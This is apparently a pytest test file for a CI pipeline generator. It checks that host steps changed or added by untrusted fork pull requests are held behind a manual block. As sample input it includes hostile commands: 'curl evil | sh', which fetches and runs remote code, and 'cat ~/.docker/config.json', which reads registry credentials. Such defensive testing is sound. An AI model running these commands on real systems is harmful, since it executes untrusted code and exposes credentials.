"""An untrusted build runs a host step only as the merge base defines it; otherwise the step waits, saying why."""

from __future__ import annotations

from constructs_lib.bootstrap.generate import Options, generate
from constructs_lib.bootstrap.jobs import Image, expand

from .helpers import fleet_2024, single, step, steps_of

BASE = """\
steps:
- label: Host step
  no_plugin: true
  commands: [bash .buildkite/scripts/host.sh]
- label: Container step
  commands: [pytest tests]
"""
FORK = {"branch": "someone:x", "pull_request": "9", "untrusted": True, "run_all": True}


def _generate(pr: str, base: str | None = BASE, changed: tuple[str, ...] = (), **options) -> dict:
    base_source = single(base) if base is not None else None
    settings = {**FORK, **options}
    return generate(
        single(pr), fleet_2024(), Options(changed_files=changed, base_source=base_source, **settings)
    ).pipeline


def _held(pipeline: dict) -> dict[str, str]:
    """Block label of each job held for trust, by the key of the job it holds (optional steps wait as ever)."""
    return {
        s["key"][len("block-") :]: s["block"] for s in steps_of(pipeline) if "Untrusted build" in s.get("block", "")
    }


def test_a_host_step_the_merge_base_defines_the_same_runs():
    assert "host-step" not in _held(_generate(BASE))


def test_a_host_step_the_pr_changes_waits_saying_why():
    changed = BASE.replace("bash .buildkite/scripts/host.sh", "curl evil | sh")
    held = _held(_generate(changed))
    assert held["host-step"] == "Run Host step? Untrusted build: the PR changes this host step"
    assert step(_generate(changed), "host-step")["depends_on"] == ["block-host-step"]


def test_a_container_step_the_pr_changes_still_runs():
    changed = BASE.replace("pytest tests", "pytest other")
    assert "container-step" not in _held(_generate(changed))


def test_a_host_step_the_pr_adds_waits():
    added = BASE + "- label: Sneaky\n  no_plugin: true\n  commands: [id]\n"
    assert _held(_generate(added))["sneaky"].endswith("the PR adds this host step")


def test_a_host_step_whose_script_the_pr_changes_waits():
    held = _held(_generate(BASE, changed=(".buildkite/scripts/host.sh",)))
    assert held["host-step"].endswith("the PR changes .buildkite/scripts/host.sh, which it runs")
    beside = _held(_generate(BASE, changed=(".buildkite/scripts/lib/common.sh",)))
    assert beside["host-step"].endswith("beside a file it runs")
    assert "host-step" not in _held(_generate(BASE, changed=("vllm/model.py",)))


def test_without_the_merge_base_every_host_step_waits():
    held = _held(_generate(BASE, base=None))
    assert held["host-step"].endswith("the default branch's step files could not be read")
    assert "container-step" not in held


def test_image_builds_the_generator_writes_run_and_docker_label_steps_are_host_steps():
    docker = BASE + "- label: ':docker: build other'\n  commands: [docker build .]\n"
    assert _held(_generate(docker, base=docker)) == {}
    sneaky = docker.replace("docker build .", "docker build . && cat ~/.docker/config.json")
    assert set(_held(_generate(sneaky, base=docker))) == {"docker-build-other"}


def test_a_trusted_build_holds_nothing():
    changed = BASE.replace("bash .buildkite/scripts/host.sh", "id")
    assert _held(_generate(changed, base=None, untrusted=False, pull_request="9")) == {}


def test_a_multi_node_step_and_a_mirror_are_host_steps():
    multi = BASE + (
        "- label: Two nodes\n  num_nodes: 2\n  num_gpus: 2\n  commands: [[a], [b]]\n"
        "- label: Mirrored\n  mirror_hardwares: [amdexperimental]\n  commands: [pytest m]\n"
    )
    assert _held(_generate(multi, base=multi)) == {}
    changed = multi.replace("[[a], [b]]", "[[a], [c]]").replace("pytest m", "pytest n")
    assert {"two-nodes", "amd-mirrored"} <= set(_held(_generate(changed, base=multi)))


def test_a_script_run_after_a_cd_or_without_an_extension_is_seen_by_its_name():
    cd = BASE.replace("bash .buildkite/scripts/host.sh", "cd .buildkite/scripts && ./host.sh && tools/ci/run")
    assert _held(_generate(cd, base=cd, changed=(".buildkite/scripts/host.sh",)))["host-step"].endswith(
        ", which it runs"
    )
    assert _held(_generate(cd, base=cd, changed=("tools/ci/lib",)))["host-step"].endswith("beside a file it runs")


def test_absolute_paths_and_urls_are_not_files_of_the_checkout():
    text = BASE.replace("bash .buildkite/scripts/host.sh", "cat /dev/null && curl https://example.com/install/x")
    assert _held(_generate(text, base=text, changed=("dev/null", "install/x", "example.com/install/y"))) == {}


def test_on_the_shared_2026_tree_a_code_change_holds_only_the_shared_base_and_a_script_change_holds_its_mirrors():
    from constructs_lib.bootstrap.cli import read_source
    from tests.conftest import shared_path

    from .helpers import default_queues

    tree = read_source(str(shared_path("vllm-repo-2026-06", ".buildkite", "ci_config.yaml")))

    def held(*changed: str) -> dict[str, str]:
        options = Options(changed_files=changed, base_source=tree, **FORK)
        return _held(generate(tree, default_queues(), options).pipeline)

    # Only the step that pushes the ROCm base image every build starts from (the profile's writes_shared).
    assert held("vllm/config.py", "tests/models/test_x.py", "setup.py") == {
        "ensure-ci-base-amd": "Run AMD: :docker: ensure ci_base? Untrusted build: it writes what trusted builds read"
    }
    held_keys = set(held(".buildkite/scripts/hardware_ci/run-amd-test.sh"))
    mirrors = {
        job.key
        for job in expand(tree, default_queues(), Image("r", "p", "b", False)).jobs
        if job.key.startswith("amd-")
    }
    assert mirrors and mirrors <= held_keys  # every AMD mirror runs the wrapper
    assert "image-build" not in held_keys  # its own script lies elsewhere


def test_on_the_shared_2026_tree_a_fork_pr_builds_on_untrusted_builders_into_the_untrusted_repository():
    from constructs_lib.bootstrap.cli import read_source
    from tests.conftest import shared_path

    from .helpers import default_queues

    model = default_queues()
    tree = read_source(str(shared_path("vllm-repo-2026-06", ".buildkite", "ci_config.yaml")))
    result = generate(tree, model, Options(base_source=tree, **FORK))
    pushers = {name for name, queue in model.queues.items() if queue.aws is not None and queue.aws.may_push}
    builds = [job for job in result.plan if job.role == "build"]
    assert builds
    for job in result.plan:
        if job.queue in pushers:
            assert model.queues[job.queue].builds == ["untrusted"], (job.key, job.queue)
    # The builds on the toolkit's AWS queues (partners' external queues push with credentials of their own).
    on_aws = {job.queue for job in builds if model.queues[job.queue].aws is not None}
    assert on_aws and on_aws <= {"cpu_queue_untrusted_us_east_1", "arm64_cpu_queue_untrusted"}
    text = result.json
    assert "vllm-ci-untrusted-repo" in text
    assert "vllm-ci-test-repo" not in text and "vllm-ci-postmerge-repo" not in text
